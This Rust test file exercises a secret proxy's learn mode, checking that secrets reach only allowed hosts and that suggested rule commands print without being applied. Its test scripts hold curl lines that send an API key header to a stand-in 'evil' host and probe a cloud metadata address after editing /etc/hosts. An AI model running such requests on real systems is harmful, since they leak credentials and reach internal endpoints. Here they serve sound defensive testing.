//! `proxy run --learn`: hosts are reached without values, rules hold, and at the end there are commands for what was asked.

use crate::world::{VALUE, World};

#[test]
fn what_a_program_asks_for_is_printed_as_commands_and_nothing_is_applied() {
    let test = "what_a_program_asks_for_is_printed_as_commands_and_nothing_is_applied";
    let Some(world) = World::new(test) else { return };
    world.rule(&["--host", &world.host(), "--path", "/v1/**"]);
    let before = world.env.ctl(["proxy", "rule", "show", "KEY", "--json"]).expect(0);
    let script = format!(
        "curl -sS -o /dev/null -H \"Authorization: Bearer $KEY\" '{0}/v1/users/12?a=canary-query'
        curl -sS -o /dev/null -H \"Authorization: Bearer $KEY\" -d canary-body '{0}/v1/users/13'
        curl -sS -H \"Authorization: Bearer $KEY\" '{0}/v2/no'; echo
        curl -sS '{1}/v1/echo'; echo
        curl -sS -H \"X-Api-Key: $KEY\" '{1}/v1/echo'",
        world.url(""),
        world.evil_url("")
    );
    let output = world.run_with(&["-s", "KEY", "--learn"], &["sh", "-c", &script]);
    world.assert_nowhere(&output);
    let (out, err) = (output.out(), output.err());
    let answers: Vec<&str> = out.lines().collect();
    // Rules hold as ever; hosts are open, and get no value.
    assert!(answers[0].contains("\"rule_mismatch\""), "{out}{err}");
    assert!(answers[1].contains("GET /v1/echo"), "{out}{err}");
    assert!(answers[2].contains("\"host_not_allowed\""), "{out}{err}");
    assert_eq!(world.evil.seen().len(), 1);
    assert_eq!(world.origin.seen().len(), 2);
    assert_eq!(world.origin.last().header("authorization"), Some(format!("Bearer {VALUE}").as_str()));
    let commands: Vec<&str> = err.lines().filter(|line| line.starts_with("secretctl proxy")).collect();
    let host = world.host();
    let evil = world.evil_url("").replace("https://", "");
    let expected = [
        format!(
            "secretctl proxy rule set KEY --host {host} --method GET,POST --path '/v1/users/*' --path '/v2/no' --site bearer --private"
        ),
        format!(
            "secretctl proxy rule set KEY --host {evil} --method GET --path '/v1/echo' --site header:x-api-key"
        ),
    ];
    assert_eq!(commands, expected, "{err}");
    assert!(!err.contains("canary"), "{err}");
    assert_eq!(world.env.ctl(["proxy", "rule", "show", "KEY", "--json"]).expect(0), before);
}

/// Where there is no rule yet, the first session shows which are needed.
#[test]
fn learning_begins_without_a_rule() {
    let Some(world) = World::new("learning_begins_without_a_rule") else { return };
    let url = world.url("/v1/models");
    let script =
        format!("curl -sS -H \"Authorization: Bearer $KEY\" {url}; echo; curl -sS {}", world.url("/v1/open"));
    let refused = world.run_with(&["-s", "KEY"], &["sh", "-c", &script]);
    assert_eq!(refused.code, Some(125), "{}", refused.err());
    let output = world.run_with(&["-s", "KEY", "--learn"], &["sh", "-c", &script]);
    world.assert_nowhere(&output);
    let (out, err) = (output.out(), output.err());
    assert!(out.contains("\"host_not_allowed\"") && out.contains("GET /v1/open"), "{out}{err}");
    let host = world.host();
    let rule =
        format!("secretctl proxy rule set KEY --host {host} --method GET --path '/v1/models' --site bearer");
    assert!(err.lines().any(|line| line == rule), "{err}");
    assert_eq!(world.origin.seen().len(), 1);
}

/// A host of this machine may be asked without a rule; what else has an address that is not public may not.
#[test]
fn learning_reaches_public_hosts_and_this_machine() {
    let test = "learning_reaches_public_hosts_and_this_machine";
    let Some(world) = World::new(test) else { return };
    // Addresses of networks of one's own, of a cloud's metadata, and the loopback in another form.
    let names = [("inner.test", "10.0.0.1"), ("metadata.test", "169.254.169.254"), ("link.test", "fe80::1")];
    for (name, address) in names {
        let script = format!(
            "echo '{address} {name}' >>/etc/hosts; exec \"$0\" proxy run -s KEY --learn -- curl -sS --max-time 20 https://{name}/"
        );
        let output = world.with_names(&["sh", "-c", &script, world.env.programs().client]);
        let (out, err) = (output.out(), output.err());
        assert!(out.contains("\"private_address\""), "{name}: {out}{err}");
    }
    let output = world.run_with(&["-s", "KEY", "--learn"], &["curl", "-sS", &world.evil_url("/v1/echo")]);
    assert!(output.out().contains("GET /v1/echo"), "{}", output.err());
}
